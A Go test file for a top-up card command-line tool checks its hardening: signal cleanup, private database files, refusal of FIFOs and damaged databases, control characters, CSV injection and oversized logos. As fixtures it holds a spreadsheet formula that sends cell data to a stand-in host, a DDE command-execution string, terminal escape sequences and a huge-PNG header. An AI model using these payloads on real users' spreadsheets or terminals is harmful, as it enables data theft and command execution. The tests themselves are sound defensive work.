package app

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/binary"
	"encoding/csv"
	"hash/crc32"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"topupcards/data/sqlite"
)

// Issue 9, row 3: SIGTERM and SIGHUP during an export clean up like Ctrl+C:
// no temporary file is left, the exit status says it was cancelled.
func TestSignalsCleanUpAnExport(t *testing.T) {
	if testing.Short() {
		t.Skip("starts subprocesses")
	}
	c := newCLI(t)
	c.ok("generate", "--amount", "1", "--quantity", "30000", "--series", "3")
	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGHUP} {
		t.Run(sig.String(), func(t *testing.T) {
			dir := t.TempDir()
			out := filepath.Join(dir, "sheets.pdf")
			cmd, _, errb := cliProcess(t, "export", "--db", c.db, "--out", out)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			// Wait until the export is writing its temporary file.
			if !waitFor(ctx, func() bool { m, _ := filepath.Glob(filepath.Join(dir, ".sheets.pdf.tmp-*")); return len(m) > 0 }) {
				t.Fatalf("the export wrote no temporary file (stderr %q)", errb)
			}
			if err := cmd.Process.Signal(sig); err != nil {
				t.Fatal(err)
			}
			cmd.Wait()
			if code := cmd.ProcessState.ExitCode(); code != ExitRefused {
				t.Errorf("exit %d after %v, want %d (stderr %q)", code, sig, ExitRefused, errb)
			}
			if !strings.Contains(errb.String(), "cancelled") {
				t.Errorf("stderr %q does not say the export was cancelled", errb)
			}
			left, _ := os.ReadDir(dir)
			for _, e := range left {
				t.Errorf("left behind after %v: %s", sig, e.Name())
			}
		})
	}
}

// Issue 9, row 5: a command that only reads, or changes cards that must
// exist, refuses a missing database and creates nothing; generate and
// resellers add create it.
func TestMissingDatabaseIsNotCreated(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "fresh", "sub", "typo.db")
	for _, args := range [][]string{
		{"list"}, {"history"}, {"export", "--out", filepath.Join(dir, "x.csv")}, {"backups"}, {"backups", "list"},
		{"resellers"}, {"resellers", "list"}, {"resellers", "remove", "X"}, {"settings"}, {"undo", "1", "--yes"},
		{"redeem", "--pin", "123456789012", "--client", "Ann"}, {"edit", "--all", "--block"}, {"delete", "--all"},
		{"delete", "--all", "--yes"},
	} {
		r := runArgs(t, append(append([]string{}, args...), "--db", db)...)
		checkFailure(t, r, ExitRefused, []string{"no card database at " + db}, strings.Join(args, " "))
		if entries, _ := os.ReadDir(dir); len(entries) != 0 {
			t.Fatalf("%s on a missing database created %s", strings.Join(args, " "), entries[0].Name())
		}
	}
	if r := runArgs(t, "resellers", "add", "Acme", "--db", db); r.code != ExitOK {
		t.Errorf("resellers add on a missing database: %+v", r)
	}
	db2 := filepath.Join(dir, "second.db")
	if r := runArgs(t, "generate", "--amount", "1", "--quantity", "1", "--series", "1", "--db", db2); r.code != ExitOK {
		t.Errorf("generate on a missing database: %+v", r)
	}
}

// Issue 9, row 4: the database and its -wal and -shm are private whenever
// the program opens them.
func TestDatabaseFilesArePrivate(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "cards.db")
	// An existing empty file that anybody may write.
	if err := os.WriteFile(db, nil, 0o666); err != nil {
		t.Fatal(err)
	}
	os.Chmod(db, 0o666)
	if r := runArgs(t, "generate", "--amount", "1", "--quantity", "3", "--series", "1", "--db", db); r.code != ExitOK {
		t.Fatalf("generate: %+v", r)
	}
	// Files left by an older version or another program with mode 0644.
	s, err := sqlite.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for _, p := range []string{db, db + "-wal", db + "-shm"} {
		if err := os.Chmod(p, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := runArgs(t, "list", "--db", db)
	if r.code != ExitOK || r.stderr != "" {
		t.Fatalf("list: %+v", r)
	}
	for _, p := range []string{db, db + "-wal", db + "-shm"} {
		st, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if st.Mode().Perm() != 0o600 {
			t.Errorf("%s has mode %04o after list, want 0600", filepath.Base(p), st.Mode().Perm())
		}
	}
}

// Issue 9, row 6: a FIFO or a device as the database is refused at once.
func TestDatabaseNotARegularFile(t *testing.T) {
	fifo := filepath.Join(t.TempDir(), "pipe.db")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skipf("mkfifo: %v", err)
	}
	for _, db := range []string{fifo, "/dev/zero", "/dev/null"} {
		r := runProcess(t, "list", "--db", db)
		checkFailure(t, r, ExitRefused, []string{"not a regular file"}, "list --db "+db)
		r = runProcess(t, "generate", "--amount", "1", "--quantity", "1", "--series", "1", "--db", db)
		checkFailure(t, r, ExitRefused, []string{"not a regular file"}, "generate --db "+db)
	}
}

// Issue 9, row 9: control characters are refused in every name, stored
// ones are shown escaped, and what a refusal repeats is cut to 80
// characters and escaped.
func TestControlCharacters(t *testing.T) {
	c := newCLI(t)
	c.sample()
	before := c.state()
	for _, args := range [][]string{
		{"resellers", "add", "Bad\x1b[2JName"},
		{"resellers", "add", "Bell\a"},
		{"resellers", "rename", "Reseller 1", "Back\bspace"},
		{"resellers", "add", "Right\u202eto left"},
		{"redeem", "--pin", "123456789012", "--client", "Eve\x1b]0;pwned\a"},
		{"generate", "--amount", "1", "--quantity", "1", "--series", "1", "--reseller", "x\x07"},
		{"list", "--client", "a\x1bb"},
	} {
		r := c.run(args[0], args[1:]...)
		checkFailure(t, r, ExitUsage, []string{"control character"}, strings.Join(args, " "))
		if strings.ContainsAny(r.stderr, "\x1b\a\b\u202e") {
			t.Errorf("%q echoed a control character: %q", args, r.stderr)
		}
	}
	if c.state() != before {
		t.Fatal("a refused name changed the database")
	}
	// A name an older version (or another program) wrote is shown escaped.
	db, err := sql.Open("sqlite", c.db)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("UPDATE resellers SET name = 'Evil\x1b[2J' WHERE name = 'Reseller 1'"); err != nil {
		t.Fatal(err)
	}
	db.Close()
	for _, cmd := range [][]string{{"resellers", "list"}, {"list"}} {
		out := c.ok(cmd[0], cmd[1:]...)
		if strings.Contains(out, "\x1b") || !strings.Contains(out, `Evil\x1b[2J`) {
			t.Errorf("%s shows the stored name raw:\n%q", cmd, out)
		}
	}
	// Echoed arguments are cut.
	long := strings.Repeat("z", 300)
	r := c.run("list", "--amount-from", long)
	if r.code != ExitUsage || strings.Contains(r.stderr, strings.Repeat("z", 81)) || !strings.Contains(r.stderr, strings.Repeat("z", 80)+"…") {
		t.Errorf("a 300-character argument echoed as %q", r.stderr)
	}
	r = c.run("--"+long+"\x1b", "x")
	if strings.Contains(r.stderr, "\x1b") {
		t.Errorf("an unknown flag echoed raw: %q", r.stderr)
	}
}

// Issue 9, row 12: series are ASCII only; a wrong PIN is called a typo only
// when every batch that could hold it has a check digit.
func TestSeriesASCIIAndTypo(t *testing.T) {
	c := newCLI(t)
	c.ok("generate", "--amount", "1", "--quantity", "2", "--series", "A", "--check-digit")
	before := c.state()
	for _, series := range []string{"ı", "ſ", "Ａ", "ﬀ"} {
		c.fails(ExitUsage, []string{"only letters A-Z and digits"}, "generate", "--amount", "1", "--quantity", "1", "--series", series)
	}
	if c.state() != before {
		t.Fatal("a refused series changed the database")
	}
	pin := c.list()[0]["pin"]
	wrong := []byte(pin)
	wrong[3] = '0' + (wrong[3]-'0'+1)%10 // one digit off: the check digit no longer matches
	c.fails(ExitRefused, []string{"mistyped"}, "redeem", "--pin", string(wrong), "--client", "Ann")
	// A batch of the same PIN length without a check digit could hold it.
	c.ok("generate", "--amount", "1", "--quantity", "1", "--series", "B")
	c.fails(ExitRefused, []string{"no card has this PIN"}, "redeem", "--pin", string(wrong), "--client", "Ann")
}

// Issue 9, row 7, through the command line: a database cut short inside
// its last page is refused by every command, exit 1, byte-identical.
func TestDamagedDatabaseRefusedByEveryCommand(t *testing.T) {
	c := newCLI(t)
	pins := c.sample()
	st, err := os.Stat(c.db)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(c.db, st.Size()-100); err != nil {
		t.Fatal(err)
	}
	before, _ := os.ReadFile(c.db)
	for _, args := range [][]string{
		{"list"}, {"history"}, {"generate", "--amount", "1", "--quantity", "1", "--series", "9"},
		{"redeem", "--pin", pins["3-000000005"], "--client", "Ann"}, {"resellers", "add", "New"},
		{"edit", "--all", "--block"}, {"delete", "--all", "--yes"}, {"export", "--out", filepath.Join(t.TempDir(), "x.csv")},
	} {
		r := c.run(args[0], args[1:]...)
		checkFailure(t, r, ExitRefused, []string{"is damaged", "restore the newest backup"}, strings.Join(args, " "))
		if after, _ := os.ReadFile(c.db); string(after) != string(before) {
			t.Fatalf("%s changed the damaged file", strings.Join(args, " "))
		}
	}
}

// Issue 9, row 1: a cell that a spreadsheet would run as a formula is
// neutralised in every CSV the program writes.
func TestCSVInjectionNeutralised(t *testing.T) {
	c := newCLI(t)
	pins := c.sample()
	evil := `=HYPERLINK("http://evil.example/steal?d="&B2,"Support")`
	c.ok("redeem", "--pin", pins["3-000000005"], "--client", evil)
	c.ok("resellers", "add", "+cmd|' /C calc'!A0")
	c.ok("resellers", "add", "@SUM(1+1)")
	out := filepath.Join(t.TempDir(), "x.csv")
	c.ok("export", "--out", out)
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{"export": string(b), "list": c.ok("list", "--format", "csv"),
		"history": c.ok("history", "--format", "csv", "--limit", "1000")}
	for what, text := range texts {
		recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		found := false
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s CSV has a cell a spreadsheet would run: %q", what, cell)
				}
				if strings.Contains(cell, "HYPERLINK") {
					found = true
				}
			}
		}
		if what != "history" && !found {
			t.Errorf("%s CSV lost the client's name", what)
		}
	}
}

// Issue 9, rows 6, 10, 11, 12: the export's own inputs and target.
func TestExportRefusesBadInputsAndOwnFiles(t *testing.T) {
	c := newCLI(t)
	c.sample()
	dir := t.TempDir()
	before := c.state()
	// Never over the database, its journal files or its backups.
	c.ok("backups", "create")
	shop := filepath.Join(dir, "shop.csv")
	runArgs(t, "generate", "--db", shop, "--amount", "1", "--quantity", "2", "--series", "1")
	shopBefore, _ := os.ReadFile(shop)
	r := runArgs(t, "export", "--db", shop, "--out", shop, "--force")
	checkFailure(t, r, ExitUsage, []string{"that is the open card database"}, "export --db shop.csv --out shop.csv")
	if after, _ := os.ReadFile(shop); !bytes.Equal(after, shopBefore) {
		t.Error("the export wrote over the database")
	}
	c.fails(ExitUsage, []string{"backups folder"}, "export", "--out", filepath.Join(filepath.Dir(c.db), "backups", "x.csv"), "--force")
	// The same file under another name (a symlink named .csv).
	link := filepath.Join(dir, "shop.csv")
	if err := os.Symlink(c.db, link); err == nil {
		c.fails(ExitUsage, []string{"open card database"}, "export", "--out", link, "--force")
	}
	if _, err := os.Stat(c.db); err != nil {
		t.Fatal(err)
	}
	// --across 0, --down 0: usage errors, not silently the default.
	c.fails(ExitUsage, []string{"--across"}, "export", "--out", filepath.Join(dir, "a.xlsx"), "--across", "0")
	c.fails(ExitUsage, []string{"--down"}, "export", "--out", filepath.Join(dir, "a.pdf"), "--down", "0")
	// Control characters in the QR template.
	c.fails(ExitUsage, []string{"control character"}, "export", "--out", filepath.Join(dir, "a.pdf"), "--qr-template", "https://x.example/?p={pin}\x1b[2J")
	// A logo that is a FIFO, a device, or a PNG declaring 20000 × 20000
	// pixels: refused at once.
	fifo := filepath.Join(dir, "logo.png")
	if err := syscall.Mkfifo(fifo, 0o600); err == nil {
		r := runProcess(t, "export", "--db", c.db, "--out", filepath.Join(dir, "b.pdf"), "--logo", fifo)
		checkFailure(t, r, ExitUsage, []string{"not a regular file"}, "export --logo FIFO")
	}
	r = runProcess(t, "export", "--db", c.db, "--out", filepath.Join(dir, "b.pdf"), "--logo", "/dev/zero")
	checkFailure(t, r, ExitUsage, []string{"not a regular file"}, "export --logo /dev/zero")
	huge := filepath.Join(dir, "huge.png")
	if err := os.WriteFile(huge, pngHeader(20000, 20000), 0o600); err != nil {
		t.Fatal(err)
	}
	c.fails(ExitUsage, []string{"20000 × 20000 pixels is larger than 4096 × 4096"}, "export", "--out", filepath.Join(dir, "b.pdf"), "--logo", huge)
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if n := e.Name(); n != "logo.png" && n != "huge.png" && n != "shop.csv" && !strings.HasPrefix(n, "shop.csv-") && n != "backups" {
			t.Errorf("a refused export left %s", e.Name())
		}
	}
	c.ok("backups", "list")
	_ = before
}

// pngHeader is the start of a PNG that declares w × h pixels: what a
// decoder reads before it allocates.
func pngHeader(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 6 // 8 bits, RGBA
	binary.Write(&b, binary.BigEndian, uint32(len(ihdr)))
	chunk := append([]byte("IHDR"), ihdr...)
	b.Write(chunk)
	binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(chunk))
	b.Write(make([]byte, 64))
	return b.Bytes()
}

// Issue 9, row 3: an export killed outright leaves its private folder; the
// next start of the program removes it.
func TestKilledExportCleanedUpOnNextStart(t *testing.T) {
	if testing.Short() {
		t.Skip("starts subprocesses")
	}
	c := newCLI(t)
	c.ok("generate", "--amount", "1", "--quantity", "30000", "--series", "3")
	dir := t.TempDir()
	cmd, _, errb := cliProcess(t, "export", "--db", c.db, "--out", filepath.Join(dir, "sheets.xlsx"))
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if !waitFor(ctx, func() bool { m, _ := filepath.Glob(filepath.Join(dir, ".sheets.xlsx.tmp-*")); return len(m) > 0 }) {
		t.Fatalf("the export made no work folder (stderr %q)", errb)
	}
	cmd.Process.Kill()
	cmd.Wait()
	if m, _ := filepath.Glob(filepath.Join(dir, ".sheets.xlsx.tmp-*")); len(m) == 0 {
		t.Fatal("the killed export left nothing: the test proves nothing")
	}
	c.ok("history", "--limit", "1")
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("after the next start %s is still there", left[0].Name())
	}
}
